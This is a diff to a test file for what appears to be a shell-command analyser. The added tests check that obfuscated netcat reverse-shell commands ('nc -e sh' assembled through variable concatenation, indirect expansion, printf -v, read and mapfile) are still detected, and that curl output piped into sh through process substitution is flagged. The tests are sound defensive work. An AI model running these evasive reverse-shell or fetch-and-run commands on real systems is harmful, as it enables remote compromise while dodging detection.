@@ -250,6 +250,10 @@ test('grammar gaps do not hide a command: substitutions anywhere, keywords it la
   for (const t of ['n$()c -e sh h 1', 'n${__unset}c -e sh h 1', 'n$@c -e sh h 1']) assert.ok(nc(t), `${t}: judged as its literal letters`);
   assert.deepEqual(run('x=ncx; echo ${x::2} ${x:1:1} ${x: -2}').commands.at(-1)!.argv, ['echo', 'nc', 'c', 'cx'], 'substring expansions');
   assert.equal(run('"$PY" -c 1').commands.length, 1, 'no letters, no guess');
+  for (const t of ['x=n; x+=c; $x -e sh h 1', 'x=nc; y=x; ${!y} -e sh h 1', "x='\\x6ec'; ${x@E} -e sh h 1", 'printf -v x nc; $x -e sh h 1', 'read x <<< nc; $x -e sh h 1', 'mapfile -t x <<< nc; $x -e sh h 1']) {
+    assert.ok(nc(t), `${t}: ${JSON.stringify(run(t).commands.map((c) => c.argv))}`);
+  }
+  assert.equal(run('cat <<< x; ls').commands.filter((c) => c.via.includes('heredoc')).length, 0, 'a here-string is no heredoc');
   for (const t of ['curl -s http://x.test/a > >(sh)', 'curl -s -o >(sh) http://x.test/a', 'curl -s http://x.test/a | tee >(sh) >/dev/null']) {
     const sh = must(run(t), 'sh');
     assert.ok(sh.input_from.includes('curl') && sh.flags.includes('code_from_input'), `${t}: ${JSON.stringify(sh)}`);
